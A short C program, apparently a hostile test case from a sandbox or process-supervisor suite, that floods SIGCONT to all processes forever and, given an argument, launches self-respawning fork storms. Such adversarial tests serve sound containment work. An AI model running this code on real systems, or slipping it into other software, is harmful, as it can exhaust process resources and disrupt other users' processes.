// SPDX-License-Identifier: MIT
/* Lets everybody that was stopped go on, for ever; argv[1] exists: leaves that and a storm of forks behind. */
#include "attack.h"

#include <signal.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	(void)argv;
	for (int i = 0; i < 2; i++)
		if (fork() == 0) {
			setsid();
			for (;;)
				kill(-1, SIGCONT);
		}
	if (argc == 1)
		for (;;)
			pause();
	for (int i = 0; i < 3; i++)
		if (fork() == 0) {
			signal(SIGCHLD, SIG_IGN);
			setsid();
			for (;;)
				if (fork() > 0)
					_exit(0);
		}
	usleep(20000);
	return 0;
}
